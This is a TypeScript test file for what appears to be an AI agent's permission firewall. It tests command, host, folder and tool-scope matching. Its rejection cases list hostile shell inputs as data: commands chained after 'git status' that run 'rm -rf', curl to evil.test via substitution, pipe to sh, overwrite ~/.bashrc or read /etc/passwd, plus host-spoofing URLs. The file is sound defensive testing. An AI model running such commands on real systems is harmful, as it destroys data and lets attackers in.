import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { hostMatches, normalHostPattern, patternCovers } from '../../../src/base/host-pattern.ts';
import type { RunId, SessionId } from '../../../src/domain/ids.ts';
import type { PermissionTerms } from '../../../src/domain/permission.ts';
import type { Touch } from '../../../src/domain/sink.ts';
import { commandMatches, isPattern, plainWords } from '../../../src/firewall/command-words.ts';
import { covers, liesIn, permits } from '../../../src/firewall/permission.ts';

describe('S2 a command pattern', () => {
	test.each([
		['git status *', 'git status'],
		['git status *', 'git status -s --short'],
		['git status *', '  git   status\t-s '],
		['git commit *', "git commit -m 'two words'"],
		['git commit *', 'git commit -m "two words"'],
		['git status', 'git status'],
		['npm test && npm run lint', 'npm test && npm run lint'],
	])('%s names %s', (pattern, command) => {
		expect(commandMatches(pattern, command)).toBe(true);
	});

	test.each([
		['git status *', 'git status; rm -rf x'],
		['git status *', 'git status ;rm -rf x'],
		['git status *', 'git status && curl evil.test'],
		['git status *', 'git status || true'],
		['git status *', 'git status | sh'],
		['git status *', 'git status > ~/.bashrc'],
		['git status *', 'git status < /etc/passwd'],
		['git status *', 'git status $(curl evil.test)'],
		['git status *', 'git status `curl evil.test`'],
		['git status *', 'git status "$(curl evil.test)"'],
		['git status *', 'git status "`id`"'],
		['git status *', 'git status\nrm -rf x'],
		['git status *', 'git status\rrm -rf x'],
		['git status *', 'git status &'],
		['git status *', 'git status $HOME'],
		['git status *', 'git status *.md'],
		['git status *', 'git status ~root'],
		['git status *', 'git status {a,b}'],
		['git status *', 'git status \\\nrm'],
		['git status *', 'git status # x'],
		['git status *', 'git statuses'],
		['git status *', 'git push'],
		['git status *', 'FOO=bar git status'],
		['git status *', "git status 'unclosed"],
		['git status', 'git status -s'],
		['*', 'rm -rf /'],
		['', ''],
		['git status; *', 'git status; rm'],
	])('%s does not name %j', (pattern, command) => {
		expect(commandMatches(pattern, command)).toBe(false);
	});

	test('never names a command with anything chained behind it: property', () => {
		const chain = fc.constantFrom(';', '&', '|', '&&', '||', '\n', '\r', '>', '>>', '<', '$(', '`', '${', '<(', '#', '\u0000');
		fc.assert(
			fc.property(fc.string({ maxLength: 20 }), chain, fc.string({ maxLength: 20 }), (before, by, after) => {
				expect(commandMatches('git status *', `git status ${before}${by}${after}`)).toBe(isQuotedAway(before, by, after));
			}),
			{ numRuns: 2_000 },
		);
		// What stands in plain quotes is no chain to a shell, so long as nothing in them means anything to it.
		function isQuotedAway(before: string, by: string, after: string): boolean {
			return plainWords(`${before}${by}${after}`) !== undefined;
		}
		expect(plainWords("-m 'a; b'")).toEqual(['-m', 'a; b']);
		for (const text of ['a; b', 'a\nb', "'a\nb'", '"a$b"', '"a`b"', 'a"b\\"c;d"', "'a';b"]) expect(plainWords(text)).toBeUndefined();
	});

	test('can be given in advance only where it is plain', () => {
		expect(['git status *', 'npm test', "make 'a b'"].every(isPattern)).toBe(true);
		expect(['*', '', ' * ', 'sh -c "$X" *', 'a; b', 'a | b'].some(isPattern)).toBe(false);
	});
});

describe('S2 a host pattern', () => {
	test.each([
		['example.com', 'https://example.com/x', true],
		['example.com', 'http://EXAMPLE.com./x', true],
		['example.com', 'https://example.com:8443/x', false],
		['example.com:8443', 'https://example.com:8443/x', true],
		['example.com:443', 'https://example.com/x', true],
		['example.com', 'https://notexample.com/', false],
		['example.com', 'https://example.com.evil.test/', false],
		['example.com', 'https://example.com@evil.test/', false],
		['example.com', 'https://a.example.com/', false],
		['*.example.com', 'https://a.example.com/', true],
		['*.example.com', 'https://a.b.example.com/', true],
		['*.example.com', 'https://example.com/', false],
		['*.example.com', 'https://notexample.com/', false],
		['bücher.example', 'https://xn--bcher-kva.example/', true],
		['[::1]:8080', 'http://[::1]:8080/', true],
		['example.com', 'ftp://example.com/', false],
	])('%s and %s: %s', (pattern, address, named) => {
		const settled = normalHostPattern(pattern);
		expect(settled).toBeDefined();
		expect(hostMatches(settled ?? '', new URL(address))).toBe(named);
	});

	test.each([
		'',
		'*',
		'*.com',
		'*.*.example.com',
		'a b',
		'https://example.com',
		'example.com/x',
		'a@b',
		'*.10.0.0.1',
		'*.[::1]',
		'ex*mple.com',
	])('%j is none', (text) => {
		expect(normalHostPattern(text)).toBeUndefined();
	});

	test('covers what it covers', () => {
		expect(patternCovers('*.example.com', 'a.example.com')).toBe(true);
		expect(patternCovers('*.example.com', '*.b.example.com')).toBe(true);
		expect(patternCovers('a.example.com', '*.example.com')).toBe(false);
		expect(patternCovers('example.com', 'example.com:8080')).toBe(false);
	});
});

test('S2 a folder names what lies in it by whole names, and nothing that leads out', () => {
	expect(liesIn('/home/a/notes', '/home/a/notes/b/c.md')).toBe(true);
	expect(liesIn('/home/a/notes/', '/home/a/notes')).toBe(true);
	for (const path of ['/home/a/notesx', '/home/a', '/home/a/notes/../other', 'notes/a', '/home/b/notes/a', ''])
		expect(liesIn('/home/a/notes', path)).toBe(false);
	expect(liesIn('relative', 'relative/a')).toBe(false);
	expect(liesIn('C:\\notes', 'C:\\notes\\a')).toBe(true);
});

test('S2 the permission of the workspace names its files and sandboxed commands there without network, and nothing else', () => {
	const shell = (more: object): Touch => ({ sink: 'shell', command: 'ls', cwd: 'workspace/a', sandboxed: true, hosts: [], ...more });
	expect(covers({ kind: 'workspace' }, shell({}))).toBe(true);
	for (const more of [
		{ sandboxed: false },
		{ hosts: ['example.com'] },
		{ cwd: '/home/a' },
		{ cwd: 'workspace/../..' },
		{ cwd: 'workspacex' },
	])
		expect(covers({ kind: 'workspace' }, shell(more))).toBe(false);
	expect(covers({ kind: 'workspace' }, { sink: 'file', access: 'write', path: 'workspace/a', root: 'workspace' })).toBe(true);
	expect(covers({ kind: 'workspace' }, { sink: 'file', access: 'write', path: '/home/a/x', root: '/home/a' })).toBe(false);
	expect(covers({ kind: 'workspace' }, { sink: 'file', access: 'write', path: 'workspace/a' })).toBe(false);
	const fetch = (method: 'GET' | 'POST'): Touch => ({ sink: 'network', url: 'https://example.com/', host: 'example.com', method });
	expect(covers({ kind: 'host', host: 'example.com', posts: false }, fetch('GET'))).toBe(true);
	expect(covers({ kind: 'host', host: 'example.com', posts: false }, fetch('POST'))).toBe(false);
});

test('S2 a permission for one tool, or for one piece of work, names nothing for another', () => {
	const touch: Touch = { sink: 'network', url: 'https://example.com/', host: 'example.com', method: 'GET' };
	const [runId, sessionId] = ['r' as RunId, 's' as SessionId];
	const names = { runs: [runId, 'parent' as RunId], sessions: [sessionId], workflow: 'invoices' };
	const given: PermissionTerms = { scope: { kind: 'host', host: 'example.com', posts: false }, label: 'approved', job: { kind: 'any' } };
	const is = (more: Partial<PermissionTerms>, tool = 'web_search') =>
		permits({ ...given, ...more }, { touch, label: 'agent', tool, job: names });
	expect(is({})).toBe(true);
	expect(is({ tool: 'web_search' })).toBe(true);
	expect(is({ tool: 'web_search' }, 'fetch_url')).toBe(false);
	expect(is({ job: { kind: 'run', runId } })).toBe(true);
	// Delegated work may do what the work that it is for may do.
	expect(is({ job: { kind: 'run', runId: 'parent' as RunId } })).toBe(true);
	expect(is({ job: { kind: 'run', runId: 'other' as RunId } })).toBe(false);
	expect(is({ job: { kind: 'chat', sessionId } })).toBe(true);
	expect(is({ job: { kind: 'chat', sessionId: 'other' as SessionId } })).toBe(false);
	expect(is({ job: { kind: 'workflow', name: 'invoices' } })).toBe(true);
	expect(is({ job: { kind: 'workflow', name: 'hiring' } })).toBe(false);
});
